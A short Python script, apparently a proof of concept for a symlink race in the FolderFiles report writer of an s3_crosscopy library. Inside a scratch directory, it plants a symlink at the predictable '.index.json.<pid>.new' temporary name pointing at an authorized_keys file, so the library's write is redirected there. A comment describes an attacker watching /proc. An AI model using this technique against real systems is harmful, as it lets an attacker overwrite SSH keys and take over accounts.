import os
from s3_crosscopy.adapters.report.folder import FolderFiles
D=".scratchl"
# the attacker, watching /proc, plants the link for the victim's pid (or for all of pid_max)
os.symlink(D+"/home/authorized_keys", f"{D}/report/.index.json.{os.getpid()}.new")
f=FolderFiles(D+"/report"); f.prepare(); f.write("index.json", b'{"format":1}')
